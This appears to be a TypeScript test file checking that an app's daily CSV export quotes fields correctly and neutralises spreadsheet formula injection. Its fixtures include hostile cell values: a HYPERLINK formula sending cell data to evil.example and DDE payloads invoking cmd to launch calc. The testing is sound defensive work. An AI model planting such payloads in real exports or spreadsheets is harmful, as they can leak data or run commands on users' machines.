// The day's CSV with hostile values: RFC 4180 quoting, UTF-8, formula injection neutralised, ISO
// times with offset; the command line writes the very same bytes as the station (one implementation).
import fs from 'node:fs'
import path from 'node:path'
import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import fc from 'fast-check'
import { afterEach, describe, expect, it } from 'vitest'
import { randomShortUuid } from '../../../electron/sandbox'
import { dayCsv, EXPORT_COLUMNS, neutralise } from '../../../electron/core/review/csv.std'
import type { DayOperationRow, Station } from '../../../electron/core/station'
import { cli } from '../../cli/helpers'
import { station, tempDir } from '../helpers'

const PKG = '1A4FF0100000022000000123'
const DANGEROUS = /^[=+\-@\t\r]/
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  'a "quoted", value',
  'line one\r\nline two\nline three',
  'Crème brûlée 🌿 — 大麻 ‮RTL',
  ' =leading space is text',
  '',
  '""',
  ','
]

let st: Station | null = null
afterEach(async () => {
  await st?.close()
  st = null
})

function row(v: string, i: number): DayOperationRow {
  return {
    id: i,
    at: 0,
    time: '2026-03-08T03:00:00.000-07:00',
    operation: 'import',
    state: 'failed',
    outcome: 'refused',
    operator: v,
    station: v,
    packageUid: v,
    productName: v,
    sku: v,
    posProductId: v,
    posInventoryId: v,
    caseUuid: v,
    packagedProductUuid: v,
    apiMessage: v,
    reason: v,
    api: { url: v, clientId: v },
    apiName: v
  }
}

describe('dayCsv', () => {
  it('quotes, doubles quotes, keeps line breaks inside cells and neutralises every dangerous first character', () => {
    const csv = dayCsv(HOSTILE.map(row))
    expect(csv.startsWith(`${EXPORT_COLUMNS.join(',')}\r\n`)).toBe(true)
    expect(EXPORT_COLUMNS.join(',')).toBe('time,operation,state,operator,station,package_uid,product_name,sku,pos_product_id,pos_inventory_id,case_uuid,packaged_product_uuid,api_message,reason,api')
    expect(csv.endsWith('\r\n')).toBe(true)
    // UTF-8 both ways, no byte-order mark.
    expect(Buffer.from(csv, 'utf8').toString('utf8')).toBe(csv)
    expect(csv.charCodeAt(0)).not.toBe(0xfeff)

    const records = parse(csv, { relax_column_count: false }) as string[][]
    expect(records).toHaveLength(HOSTILE.length + 1)
    records.slice(1).forEach((r, i) => {
      expect(r).toHaveLength(EXPORT_COLUMNS.length)
      for (const cell of r.slice(3)) {
        expect(cell).toBe(neutralise(HOSTILE[i]))
        expect(DANGEROUS.test(cell)).toBe(false)
      }
    })
    expect(records[1]![3]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`)
    expect(records[5]![3]).toBe("'\t=1")
    expect(records[6]![3]).toBe("'\r=1")
    expect(records[8]![3]).toBe('line one\r\nline two\nline three')
    expect(records[9]![3]).toBe('Crème brûlée 🌿 — 大麻 ‮RTL')
    // RFC 4180: a field with a quote is quoted and the quote doubled.
    expect(csv).toContain('"a ""quoted"", value"')
  })

  it('writes the same bytes as csv-stringify with RFC 4180 quoting, for any text', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 6 }), (vals) => {
        const rows = vals.map(row)
        const cells = (r: DayOperationRow) => [r.time, r.operation, 'failed', r.operator, r.station, r.packageUid, r.productName, r.sku, r.posProductId, r.posInventoryId, r.caseUuid, r.packagedProductUuid, r.apiMessage, r.reason, r.apiName].map((v) => neutralise(v))
        const expected = stringify([[...EXPORT_COLUMNS], ...rows.map(cells)], { record_delimiter: '\r\n', quoted_match: /[",\r\n]/ })
        expect(dayCsv(rows)).toBe(expected)
      }),
      { numRuns: 300 }
    )
  })

  it('a file of only a header for an empty day', () => {
    expect(dayCsv([])).toBe(`${EXPORT_COLUMNS.join(',')}\r\n`)
  })
})

describe('export of a day from the station and from the command line', () => {
  it('writes the same bytes both ways, with hostile names from the manifest, the operator and an undo reason', async () => {
    const dataDir = tempDir()
    let now = Date.parse('2026-03-08T10:00:00Z') // 03:00 PDT, just after the spring-forward gap
    st = station(dataDir, null, { now: () => now })
    st.setSettings({ timeZone: 'America/Los_Angeles', operator: '@admin "Sam", Jr.', stationName: '=dock' })
    st.loadManifest([{ line: 2, packageUid: PKG, posProductId: '-1', posInventoryId: '+2', sku: '=SKU', productName: 'Crème 🌿, "OG"\r\nsecond line', caseUuid: null, packagedProductUuid: null }])
    const c = randomShortUuid()
    const pp = randomShortUuid()
    const imported = st.enqueueImport({ caseUuid: c, packagedProductUuid: pp, packageUid: PKG, posProductId: '-1', posInventoryId: '+2', sku: '=SKU' })
    now += 60_000
    st.undoImport(imported.id, '=cmd|" /C calc"!A0 — wrong box, "sorry"')
    now = Date.parse('2026-03-09T07:00:00Z') // next local day: not in the export
    st.enqueueImport({ caseUuid: randomShortUuid(), packagedProductUuid: randomShortUuid(), packageUid: PKG, posProductId: '1', posInventoryId: '2' })

    const { csv, rows } = st.exportDayCsv('2026-03-08')
    expect(rows).toBe(2)
    const records = parse(csv) as string[][]
    expect(records[0]).toEqual([...EXPORT_COLUMNS])
    expect(records).toHaveLength(3)
    const [imp, rm] = [records[1]!, records[2]!]
    expect(imp).toEqual([
      '2026-03-08T03:00:00.000-07:00',
      'import',
      'cancelled',
      `'@admin "Sam", Jr.`,
      "'=dock",
      PKG,
      'Crème 🌿, "OG"\r\nsecond line',
      "'=SKU",
      "'-1",
      "'+2",
      c,
      pp,
      '',
      '',
      'Built-in sandbox'
    ])
    expect(rm.slice(0, 3)).toEqual(['2026-03-08T03:01:00.000-07:00', 'remove', 'cancelled'])
    expect(rm[13]).toBe(`'=cmd|" /C calc"!A0 — wrong box, "sorry"`)
    for (const r of records) for (const cell of r) expect(DANGEROUS.test(cell)).toBe(false)
    await st.close()
    st = null

    const out = path.join(dataDir, 'day.csv')
    const run = await cli(['export', '--date', '2026-03-08', '--out', out, '--data', dataDir])
    expect(run.stderr).not.toMatch(/error/i)
    expect(run.code).toBe(0)
    expect(fs.readFileSync(out, 'utf8')).toBe(csv)
    const stdout = await cli(['export', '--date', '2026-03-08', '--data', dataDir])
    expect(stdout.stdout).toBe(csv)
  }, 60_000)
})
